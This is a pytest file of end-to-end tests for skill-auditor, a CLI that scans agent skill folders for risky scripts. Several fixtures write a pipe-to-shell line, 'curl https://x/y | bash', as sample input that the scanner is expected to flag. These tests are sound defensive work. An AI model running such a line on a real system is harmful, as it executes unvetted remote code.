# Copyright 2026 Cisco Systems, Inc. and its affiliates
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.
#
# SPDX-License-Identifier: Apache-2.0

"""
End-to-end tests for the command-line interface.

These tests exercise:
* CLI (subprocess) -> config load -> scanners -> report on stdout -> exit code
* CLI (in-process ``main``) for the catalog commands and error paths

External tools are disabled through a config file so results do not depend
on what is installed on the machine running the tests.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from skill_auditor.cli.cli import main

PROJECT_ROOT = Path(__file__).parent.parent

NO_EXTERNAL_TOOLS = "scanners:\n  shellcheck: false\n  secrets: false\n  semgrep: false\n"


def _run_cli(*args: str) -> subprocess.CompletedProcess:
    """Run the skill-auditor CLI via subprocess and return the result."""
    cmd = [sys.executable, "-m", "skill_auditor.cli.cli", *args]
    return subprocess.run(cmd, capture_output=True, text=True, cwd=str(PROJECT_ROOT), check=False)


@pytest.fixture
def config_file(tmp_path):
    path = tmp_path / "audit-config.yaml"
    path.write_text(NO_EXTERNAL_TOOLS, encoding="utf-8")
    return path


@pytest.fixture(autouse=True)
def _isolate_config(tmp_path, monkeypatch):
    monkeypatch.delenv("SKILL_AUDITOR_CONFIG", raising=False)
    monkeypatch.chdir(tmp_path)


class TestAuditSubprocess:
    @pytest.mark.e2e
    def test_clean_skill_exits_zero(self, make_skill, config_file):
        result = _run_cli("audit", str(make_skill()), "--config", str(config_file))
        assert result.returncode == 0, result.stderr
        assert "Result: PASSED" in result.stdout

    @pytest.mark.e2e
    def test_pipe_to_shell_exits_one(self, make_skill, config_file):
        skill = make_skill({"scripts/install.sh": "#!/bin/bash\ncurl https://x/y | bash\n"})
        result = _run_cli("audit", str(skill), "--config", str(config_file), "--format", "json")

        assert result.returncode == 1
        data = json.loads(result.stdout)
        errors = [f for f in data["findings"] if f["severity"] == "error"]
        assert [(f["rule_id"], f["file"], f["line"]) for f in errors] == [("bash/CAT-A1", "scripts/install.sh", 2)]

    @pytest.mark.e2e
    def test_inline_suppression(self, make_skill, config_file):
        skill = make_skill({"scripts/install.sh": "#!/bin/bash\ncurl https://x/y | bash # audit:ignore\n"})
        result = _run_cli("audit", str(skill), "--config", str(config_file), "--format", "json")

        assert result.returncode == 0, result.stderr
        data = json.loads(result.stdout)
        assert data["findings"] == []
        assert len(data["suppressed"]) == 1
        assert data["suppressed"][0]["rule_id"] == "bash/CAT-A1"

    @pytest.mark.e2e
    def test_collection_path_is_usage_error(self, tmp_path, make_skill, config_file):
        root = tmp_path / "skills"
        make_skill(name="one", root=root)
        make_skill(name="two", root=root)

        result = _run_cli("audit", str(root), "--config", str(config_file))

        assert result.returncode == 2
        assert f"audit-all {root}" in result.stderr
        assert "skill-auditor audit" in result.stderr
        assert result.stdout == ""

    @pytest.mark.e2e
    def test_audit_all_sarif(self, tmp_path, make_skill, config_file):
        root = tmp_path / "skills"
        make_skill({"run.sh": "curl https://x/y | bash\n"}, name="risky", root=root)
        make_skill(name="clean", root=root)

        result = _run_cli("audit-all", str(root), "--config", str(config_file), "--format", "sarif")

        assert result.returncode == 1
        sarif = json.loads(result.stdout)
        assert sarif["version"] == "2.1.0"
        uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in sarif["runs"][0]["results"]}
        assert uris == {"risky/run.sh"}

    @pytest.mark.e2e
    def test_strict_flag(self, make_skill, config_file):
        skill = make_skill({"setup.sh": "npm install left-pad\n"})
        assert _run_cli("audit", str(skill), "--config", str(config_file)).returncode == 0
        assert _run_cli("audit", str(skill), "--config", str(config_file), "--strict").returncode == 1

    @pytest.mark.e2e
    def test_version(self):
        result = _run_cli("--version")
        assert result.returncode == 0
        assert result.stdout.startswith("skill-auditor ")


class TestAuditInProcess:
    def test_output_file(self, tmp_path, make_skill, config_file, capsys):
        out = tmp_path / "report.json"
        code = main(["audit", str(make_skill()), "--config", str(config_file), "--format", "json", "-o", str(out)])

        assert code == 0
        assert json.loads(out.read_text(encoding="utf-8"))["passed"] is True
        captured = capsys.readouterr()
        assert captured.out == ""
        assert f"Report saved to: {out}" in captured.err

    def test_missing_path(self, tmp_path, config_file, capsys):
        assert main(["audit", str(tmp_path / "nope"), "--config", str(config_file)]) == 2
        assert "Path does not exist" in capsys.readouterr().err

    def test_missing_config(self, tmp_path, make_skill, capsys):
        assert main(["audit", str(make_skill()), "--config", str(tmp_path / "missing.yaml")]) == 2
        assert "Configuration file not found" in capsys.readouterr().err

    def test_bad_suppression_file(self, make_skill, config_file, capsys):
        skill = make_skill({".skill-auditor-ignore": "suppress: [\n"})
        assert main(["audit", str(skill), "--config", str(config_file)]) == 2
        assert "Error:" in capsys.readouterr().err

    def test_config_from_working_directory(self, tmp_path, make_skill, capsys):
        (tmp_path / "skill-auditor.yaml").write_text(NO_EXTERNAL_TOOLS + "strict: true\n", encoding="utf-8")
        skill = make_skill({"setup.sh": "npm install left-pad\n"})
        assert main(["audit", str(skill), "--format", "json"]) == 1
        assert json.loads(capsys.readouterr().out)["strict"] is True

    def test_audit_all_without_skills(self, tmp_path, config_file, capsys):
        (tmp_path / "empty").mkdir()
        assert main(["audit-all", str(tmp_path / "empty"), "--config", str(config_file)]) == 2
        assert "No skills found" in capsys.readouterr().err

    def test_no_command(self, capsys):
        assert main([]) == 2


class TestCatalogCommands:
    def test_list_rules(self, capsys):
        assert main(["list-rules"]) == 0
        out = capsys.readouterr().out
        assert "bash/CAT-A1" in out
        assert "frontmatter/bare-bash-tool" in out
        assert "shellcheck/*" in out

    def test_list_rules_for_scanner(self, capsys):
        assert main(["list-rules", "--scanner", "package_install"]) == 0
        out = capsys.readouterr().out
        assert "pkg/F3-registry" in out
        assert "bash/CAT-A1" not in out
        assert "6 rules" in out

    def test_list_rules_unknown_scanner(self, capsys):
        assert main(["list-rules", "--scanner", "nope"]) == 2
        assert "No rules for scanner 'nope'" in capsys.readouterr().err

    def test_explain(self, capsys):
        assert main(["explain", "bash/CAT-A1"]) == 0
        out = capsys.readouterr().out
        assert "Rule: bash/CAT-A1" in out
        assert "Severity:    error" in out
        assert "Remediation:" in out

    def test_explain_delegated_rule(self, capsys):
        assert main(["explain", "shellcheck/SC1234"]) == 0
        out = capsys.readouterr().out
        assert "Rule: shellcheck/SC1234" in out
        assert "external tool 'shellcheck'" in out

    def test_explain_unknown_rule(self, capsys):
        assert main(["explain", "bash/CAT-Z9"]) == 2
        assert "Unknown rule 'bash/CAT-Z9'" in capsys.readouterr().err

    def test_check_tools(self, capsys):
        assert main(["check-tools"]) == 0
        out = capsys.readouterr().out
        for tool in ("shellcheck", "gitleaks", "semgrep"):
            assert tool in out
